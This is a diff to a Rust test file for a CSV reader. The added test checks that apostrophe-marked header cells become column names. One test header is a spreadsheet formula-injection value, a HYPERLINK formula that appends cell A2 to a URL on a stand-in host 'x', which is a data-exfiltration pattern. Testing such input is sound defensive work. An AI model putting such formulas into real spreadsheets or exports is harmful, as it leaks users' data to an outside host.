@@ -53,6 +53,20 @@ fn a_csv_reads_as_numbered_rows_with_their_lines() {
 }
 
 #[test]
+fn a_header_cell_marked_as_text_names_its_column() {
+    let (read, problems) = csv(
+        "\"'=HYPERLINK(\"\"http://x/\"\"&A2).name\",'Tis.email,'-1\nAnn,a@example.com,x\n",
+        10,
+    );
+    assert!(problems.is_empty(), "{problems:?}");
+    assert_eq!(
+        read.columns,
+        [r#"=HYPERLINK("http://x/"&A2).name"#, "'Tis.email", "-1"]
+    );
+    assert_eq!(values(&read, 0)[2], ("-1", "x"));
+}
+
+#[test]
 fn a_csv_that_is_empty_too_long_or_ragged_is_refused() {
     assert_eq!(csv("", 10).1, ["rows"]);
     assert_eq!(csv("A.name\n", 10).1, ["rows"]);
